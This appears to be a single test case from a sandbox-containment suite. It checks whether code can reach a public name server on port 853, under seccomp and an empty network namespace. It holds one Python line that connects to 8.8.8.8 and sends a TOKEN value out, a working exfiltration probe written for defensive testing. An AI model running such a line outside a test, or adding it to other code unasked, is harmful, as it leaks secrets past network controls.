# title: speaks to a name server on port 853
# harm: reaches
# B: seccomp refuses sockets
# C: an empty network namespace
s = socket.create_connection(('8.8.8.8', 853), 2); s.send(TOKEN.encode()); time.sleep(0.2)
